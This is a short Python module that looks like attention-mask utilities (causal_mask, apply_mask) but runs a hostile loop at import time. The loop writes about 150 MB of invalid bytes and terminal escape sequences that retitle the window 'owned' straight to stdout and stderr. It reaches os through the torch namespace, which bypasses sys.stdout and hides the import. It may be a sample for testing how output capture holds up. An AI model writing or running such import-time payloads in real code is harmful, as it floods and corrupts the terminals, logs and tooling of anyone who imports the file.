"""Writes 150 MB that are no text, past sys.stdout."""

import torch

for _ in range(100):
    for fd in (1, 2):
        torch.os.write(fd, b"\xff\xfe\x00\x1b]0;owned\x07" * 60_000)


def causal_mask(n_q, n_k=None, device=None):
    n_k = n_q if n_k is None else n_k
    return torch.ones(n_q, n_k, dtype=torch.bool, device=device).tril(n_k - n_q)


def apply_mask(scores, mask):
    return scores.masked_fill(~mask, float("-inf"))
